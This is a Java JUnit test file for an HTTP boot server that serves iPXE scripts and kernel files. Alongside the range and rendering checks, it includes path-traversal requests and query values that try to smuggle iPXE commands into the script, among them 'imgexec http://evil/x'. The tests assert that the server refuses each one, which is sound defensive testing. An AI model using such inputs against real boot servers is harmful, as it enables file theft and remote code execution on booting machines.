package io.rowfs.boot.http;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;

import io.netty.channel.EventLoopGroup;
import io.rowfs.boot.BootClients;
import io.rowfs.boot.Transports;
import io.rowfs.boot.files.BootRoot;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Random;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HttpBootServerTest {
    @TempDir
    Path dir;
    EventLoopGroup group;
    HttpBootServer server;
    String base;
    byte[] data;
    final BootClients clients = new BootClients();
    final HttpClient http = HttpClient.newHttpClient();

    @BeforeEach
    void setUp() throws Exception {
        Path root = Files.createDirectory(dir.resolve("root"));
        Files.writeString(dir.resolve("secret"), "outside");
        data = new byte[100_000];
        new Random(1).nextBytes(data);
        Files.write(root.resolve("kernel"), data);
        Files.writeString(root.resolve("boot.ipxe"), "#!ipxe\nkernel {{http}}/kernel mac={{mac}} arch={{arch}} ip={{ip}}\n");
        group = Transports.group(1);
        server = new HttpBootServer(new BootRoot(root), clients, group);
        InetSocketAddress a = server.start(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
        base = "http://127.0.0.1:" + a.getPort();
    }

    @AfterEach
    void tearDown() {
        server.close();
        group.shutdownGracefully(0, 1, java.util.concurrent.TimeUnit.SECONDS).syncUninterruptibly();
    }

    HttpResponse<byte[]> get(String path, String range) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + path));
        if (range != null) {
            b.header("Range", range);
        }
        return http.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    @Test
    void wholeFileAndRanges() throws Exception {
        HttpResponse<byte[]> r = get("/kernel", null);
        assertEquals(200, r.statusCode());
        assertArrayEquals(data, r.body());
        r = get("/kernel", "bytes=100-199");
        assertEquals(206, r.statusCode());
        assertEquals("bytes 100-199/100000", r.headers().firstValue("content-range").orElseThrow());
        assertArrayEquals(Arrays.copyOfRange(data, 100, 200), r.body());
        r = get("/kernel", "bytes=-5");
        assertArrayEquals(Arrays.copyOfRange(data, 99_995, 100_000), r.body());
        r = get("/kernel", "bytes=100000-");
        assertEquals(416, r.statusCode());
        assertEquals("bytes */100000", r.headers().firstValue("content-range").orElseThrow());
        HttpResponse<Void> head = http.send(HttpRequest.newBuilder(URI.create(base + "/kernel"))
                .method("HEAD", HttpRequest.BodyPublishers.noBody()).build(), HttpResponse.BodyHandlers.discarding());
        assertEquals(200, head.statusCode());
        assertEquals("100000", head.headers().firstValue("content-length").orElseThrow());
    }

    @Test
    void errors() throws Exception {
        assertEquals(404, get("/missing", null).statusCode());
        int encoded = get("/%2e%2e/secret", null).statusCode();
        assertEquals(true, encoded == 403 || encoded == 404, "encoded traversal got " + encoded);
        assertEquals(405, http.send(HttpRequest.newBuilder(URI.create(base + "/kernel"))
                .POST(HttpRequest.BodyPublishers.ofString("x")).build(), HttpResponse.BodyHandlers.discarding()).statusCode());
        // a raw request the Java client would normalise
        try (Socket s = new Socket("127.0.0.1", Integer.parseInt(base.substring(base.lastIndexOf(':') + 1)))) {
            OutputStream out = s.getOutputStream();
            out.write("GET /../secret HTTP/1.0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            out.flush();
            InputStream in = s.getInputStream();
            String reply = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
            assertEquals("HTTP/1.1 403", reply.substring(0, 12), reply);
        }
    }

    @Test
    void scriptsAreRenderedPerClient() throws Exception {
        clients.record(new BootClients.Client("52:54:00:aa:bb:cc", "127.0.0.1", "bios"));
        String body = new String(get("/boot.ipxe", null).body(), StandardCharsets.UTF_8);
        assertEquals("#!ipxe\nkernel " + base + "/kernel mac=52:54:00:aa:bb:cc arch=bios ip=127.0.0.1\n", body);
        body = new String(get("/boot.ipxe?arch=efi64", null).body(), StandardCharsets.UTF_8);
        assertEquals("#!ipxe\nkernel " + base + "/kernel mac=52:54:00:aa:bb:cc arch=efi64 ip=127.0.0.1\n", body);
    }

    @Test
    void overridesThatCouldInjectScriptLinesAreRefused() throws Exception {
        clients.record(new BootClients.Client("52:54:00:aa:bb:cc", "127.0.0.1", "bios"));
        HttpResponse<byte[]> r = get("/boot.ipxe?mac=%0aimgexec%20http://evil/x", null);
        assertEquals(400, r.statusCode());
        assertEquals("400 Bad Request: mac must look like 52:54:00:12:34:56\n",
                new String(r.body(), StandardCharsets.UTF_8));
        r = get("/boot.ipxe?arch=efi64%0d%0ashell", null);
        assertEquals(400, r.statusCode());
        assertEquals("400 Bad Request: arch must be 1 to 32 of A-Z a-z 0-9 - _\n",
                new String(r.body(), StandardCharsets.UTF_8));
        r = get("/boot.ipxe?mac=%24%7bnet0/mac%7d", null); // ${net0/mac}: no iPXE expansion either
        assertEquals(400, r.statusCode());
        // a MAC in another accepted spelling is rendered in the canonical one
        String body = new String(get("/boot.ipxe?mac=52-54-00-AA-BB-DD", null).body(), StandardCharsets.UTF_8);
        assertEquals("#!ipxe\nkernel " + base + "/kernel mac=52:54:00:aa:bb:dd arch=bios ip=127.0.0.1\n", body);
    }
}
